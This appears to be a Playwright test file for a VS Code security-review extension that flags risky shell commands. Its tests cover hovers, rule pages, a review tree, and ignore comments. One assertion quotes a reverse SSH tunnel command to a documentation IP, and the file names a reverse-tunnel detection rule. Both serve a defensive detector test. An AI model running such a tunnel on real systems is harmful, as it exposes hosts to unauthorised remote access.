/** What a person sees and does, with the keyboard and the mouse. */
import assert from "node:assert/strict";
import type { Locator } from "playwright-core";
import { changedRepository } from "../../../scripts/vscode/test-windows.mjs";
import { tellFailedScene } from "./scene.ts";
import { openWorkbench, type Workbench, webview } from "./workbench.ts";

describe("the workbench", () => {
  let workbench: Workbench;

  before(async () => {
    workbench = await openWorkbench(changedRepository);
  });
  after(() => workbench.close());
  afterEach(async function () {
    await tellFailedScene(workbench, this.currentTest);
    await workbench.page.keyboard.press("Escape");
  });

  it("underlines what the change brings", async () => {
    await workbench.openFile("old.sh");
    await workbench.page.locator(".squiggly-error").first().waitFor({ timeout: 30_000 });
    assert.equal(await workbench.page.locator(".squiggly-error").count(), 1);
    await workbench.screenshot("squiggle");
  });

  it("tells on pointing at it what the rule saw", async () => {
    const hover = await pointedAt(workbench);
    assert.match((await hover.textContent()) ?? "", /ssh -N -R=9:localhost:22 -f -- agent@203\.0\.113\.7/);
    await workbench.screenshot("hover");
  });

  it("opens the rule's page from the code in the hover", async () => {
    const hover = await pointedAt(workbench);
    await hover.getByText("command/reverse-ssh-tunnel").first().click();
    await webview(workbench.page).getByRole("heading", { name: "Why it matters" }).waitFor({ timeout: 30_000 });
    await workbench.screenshot("rule-page");
    await workbench.runCommand("View: Close Editor");
  });

  it("reviews the change: both sides of each file, and a tree with the riskiest first", async () => {
    await workbench.runCommand("Countersign: Review Changes");
    const { page } = workbench;
    await page.locator(".tab.active", { hasText: /^Review / }).waitFor({ timeout: 60_000 });
    await workbench.runCommand("Countersign: Focus on Findings View");
    const items = page.locator("[id='countersign.findings'], .pane").getByRole("treeitem");
    await items.filter({ hasText: "new file.sh" }).first().waitFor();
    await page.locator(".multiDiffEntry").first().waitFor({ timeout: 30_000 });
    await page.locator(".multiDiffEntry .squiggly-error").first().waitFor({ timeout: 30_000 });
    await workbench.screenshot("review");
  });

  it("shows in the status bar what is open", async () => {
    const item = workbench.page.locator("[id='countersign.countersign.verdict']");
    assert.match((await item.textContent()) ?? "", /Countersign: 4 open · 4 lines unread/);
  });

  it("opens the diff of a file at the finding that is chosen in the tree", async () => {
    const { page } = workbench;
    await page
      .getByRole("treeitem", { name: /^high severity:/ })
      .first()
      .click();
    await page.locator(".monaco-diff-editor, .editor-instance .view-line").first().waitFor();
    await workbench.screenshot("finding-from-tree");
  });

  it("writes an ignore comment with the reason that is asked for", async () => {
    const { page } = workbench;
    await workbench.runCommand("View: Close All Editors");
    await page
      .getByRole("tab", { name: /Explorer/ })
      .first()
      .click();
    await workbench.openFile("old.sh");
    await page.locator(".squiggly-error").first().waitFor();
    await page.locator(".view-line", { hasText: "-fNR" }).first().click();
    await page.keyboard.press("Control+.");
    const ignore = page.locator(".action-widget .monaco-list-row", { hasText: /^Ignore .* with a reason/ });
    await ignore.waitFor();
    await workbench.screenshot("quick-fix");
    // Where a review is open, decisions about the finding stand above it.
    await ignore.click();
    const input = page.locator(".quick-input-widget input[type=text]");
    await input.waitFor({ state: "visible" });
    await workbench.screenshot("reason");
    await input.fill("the lab's jump host");
    await page.keyboard.press("Enter");
    await page.locator(".view-line", { hasText: "countersign-ignore" }).waitFor();
    await workbench.screenshot("ignored");
  });

  it("asks no other machine for anything", () => {
    assert.deepEqual([...workbench.outside], []);
  });
});

/** The hover of the tunnel in view. */
async function pointedAt({ page }: Workbench): Promise<Locator> {
  await page.locator(".view-line", { hasText: "-fNR" }).first().hover();
  const hover = page.locator(".monaco-hover:visible", { hasText: "What the rule saw" });
  await hover.waitFor({ timeout: 20_000 });
  return hover;
}
